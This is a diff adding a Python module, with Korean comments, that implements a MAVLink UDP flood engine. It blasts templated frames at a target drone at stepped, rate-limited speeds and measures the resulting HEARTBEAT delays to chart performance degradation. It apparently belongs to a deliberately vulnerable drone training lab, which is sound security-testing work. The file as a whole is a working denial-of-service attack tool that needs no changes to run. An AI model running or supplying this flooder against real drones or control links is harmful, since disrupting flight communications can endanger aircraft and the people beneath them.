@@ -0,0 +1,182 @@
+# dvd_lite/dvd_attacks/denial_of_service/flood_engine.py
+"""
+MAVLink 고속 부하 생성 엔진
+미리 만든 프레임 템플릿의 시퀀스/CRC만 바꿔 UDP 소켓 하나로 일괄 전송하고,
+토큰 버킷으로 전송률을 맞추면서 대상 HEARTBEAT 도착 간격으로 성능 저하를 측정한다.
+"""
+
+import asyncio
+import errno
+import logging
+import socket
+from dataclasses import dataclass, asdict
+from typing import Dict, List, Any, Optional, Tuple
+
+from ... import mavlink
+
+logger = logging.getLogger(__name__)
+
+class TokenBucket:
+    """토큰 버킷 전송률 제어"""
+
+    def __init__(self, rate: float, burst: float):
+        self.rate = rate
+        self.burst = max(1.0, burst)
+        self.tokens = 0.0
+        self.updated: Optional[float] = None
+
+    def take(self, current: float, wanted: int) -> int:
+        """사용 가능한 토큰 수만큼(최대 wanted) 꺼내기"""
+        if self.updated is not None:
+            self.tokens = min(self.burst, self.tokens + (current - self.updated) * self.rate)
+        self.updated = current
+        granted = min(wanted, int(self.tokens))
+        self.tokens -= granted
+        return granted
+
+    def delay(self, wanted: int) -> float:
+        """wanted개 토큰이 쌓일 때까지 남은 시간"""
+        return max(0.0, (wanted - self.tokens) / self.rate)
+
+@dataclass
+class FloodStepReport:
+    """전송률 단계별 결과"""
+    target_rate: float
+    duration: float
+    frames_sent: int
+    bytes_sent: int
+    drops: int
+    achieved_pps: float
+    heartbeats: int
+    heartbeat_gap_mean: Optional[float]
+    heartbeat_gap_max: Optional[float]
+    heartbeat_latency_p95: Optional[float]
+
+    def to_dict(self) -> Dict[str, Any]:
+        return asdict(self)
+
+class MAVLinkFloodEngine:
+    """MAVLink 플러드 엔진
+
+    rates 목록의 각 전송률을 step_duration 동안 유지하며 단계별 FloodStepReport를 만든다.
+    전송 실패(소켓 버퍼 포화)는 drops로 집계하고, 대상 HEARTBEAT 간격이 heartbeat_interval을
+    넘는 만큼을 지연(latency)으로 본다.
+    """
+
+    def __init__(self, target: Tuple[str, int], message: str = "HEARTBEAT",
+                 fields: Optional[Dict[str, Any]] = None, batch_size: int = 256,
+                 heartbeat_interval: float = 1.0, sysid: int = 255, compid: int = 190,
+                 send_buffer: int = 4 * 1024 * 1024):
+        self.target = target
+        self.batch_size = batch_size
+        self.heartbeat_interval = heartbeat_interval
+        self.send_buffer = send_buffer
+        self.template = mavlink.FrameTemplate(message, sysid, compid, **(fields or {}))
+        self.sock: Optional[socket.socket] = None
+        self.seq = 0
+        self._heartbeats: List[float] = []
+        self._loop: Optional[asyncio.AbstractEventLoop] = None
+
+    def open(self) -> None:
+        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, self.send_buffer)
+        self.sock.setblocking(False)
+        self.sock.connect(self.target)
+        self._loop = asyncio.get_running_loop()
+        self._loop.add_reader(self.sock.fileno(), self._on_readable)
+
+    def close(self) -> None:
+        if self.sock is not None:
+            self._loop.remove_reader(self.sock.fileno())
+            self.sock.close()
+            self.sock = None
+
+    async def __aenter__(self) -> "MAVLinkFloodEngine":
+        self.open()
+        return self
+
+    async def __aexit__(self, *exc_info) -> None:
+        self.close()
+
+    def _on_readable(self) -> None:
+        """대상에서 온 HEARTBEAT 도착 시각 기록"""
+        arrived = self._loop.time()
+        while True:
+            try:
+                data = self.sock.recv(65535)
+            except (BlockingIOError, InterruptedError):
+                return
+            except OSError:
+                # 대상 포트가 닫힌 경우 (ICMP port unreachable)
+                return
+            for message in mavlink.parse_frames(data):
+                if message.name == "HEARTBEAT":
+                    self._heartbeats.append(arrived)
+
+    def _send_batch(self, count: int) -> Tuple[int, int]:
+        """프레임 count개 전송 - (전송 수, 실패 수)"""
+        send = self.sock.send
+        frame = self.template.frame
+        seq = self.seq
+        sent = 0
+        try:
+            for sent in range(count):
+                send(frame(seq + sent))
+            sent = count
+        except (BlockingIOError, InterruptedError):
+            pass
+        except OSError as e:
+            if e.errno not in (errno.ENOBUFS, errno.ECONNREFUSED):
+                raise
+        self.seq = (seq + sent) & 0xFF
+        return sent, count - sent
+
+    async def run_step(self, rate: float, duration: float) -> FloodStepReport:
+        """한 전송률 단계 실행"""
+        loop = asyncio.get_running_loop()
+        # 배치는 약 10ms 분량 (낮은 전송률에서도 전송 간격이 고르도록)
+        # 버스트는 두 배치로 두어 sleep 지연으로 쌓인 토큰을 버리지 않음
+        batch_size = max(1, min(self.batch_size, int(rate * 0.01)))
+        bucket = TokenBucket(rate, 2 * batch_size)
+        heartbeat_start = len(self._heartbeats)
+        frames = drops = 0
+
+        started = loop.time()
+        bucket.take(started, 0)
+        end = started + duration
+        while True:
+            current = loop.time()
+            if current >= end:
+                break
+            granted = bucket.take(current, batch_size)
+            if granted:
+                sent, failed = self._send_batch(granted)
+                frames += sent
+                drops += failed
+            # 다음 배치까지 양보 (수신 콜백과 다른 작업이 실행되도록)
+            await asyncio.sleep(min(bucket.delay(batch_size), end - current) if not granted else 0)
+        elapsed = loop.time() - started
+
+        arrivals = self._heartbeats[heartbeat_start:]
+        gaps = [later - earlier for earlier, later in zip(arrivals, arrivals[1:])]
+        latencies = sorted(max(0.0, gap - self.heartbeat_interval) for gap in gaps)
+
+        report = FloodStepReport(
+            target_rate=rate,
+            duration=elapsed,
+            frames_sent=frames,
+            bytes_sent=frames * len(self.template),
+            drops=drops,
+            achieved_pps=frames / elapsed if elapsed > 0 else 0.0,
+            heartbeats=len(arrivals),
+            heartbeat_gap_mean=sum(gaps) / len(gaps) if gaps else None,
+            heartbeat_gap_max=max(gaps) if gaps else None,
+            heartbeat_latency_p95=latencies[min(len(latencies) - 1, int(len(latencies) * 0.95))] if latencies else None
+        )
+        logger.info(f"🌊 플러드 단계: 목표 {rate:.0f}pps -> {report.achieved_pps:.0f}pps, "
+                    f"실패 {drops}, HEARTBEAT {report.heartbeats}")
+        return report
+
+    async def run(self, rates: List[float], step_duration: float) -> List[FloodStepReport]:
+        """전송률 단계를 차례로 실행 (대상 성능 저하 곡선)"""
+        return [await self.run_step(rate, step_duration) for rate in rates]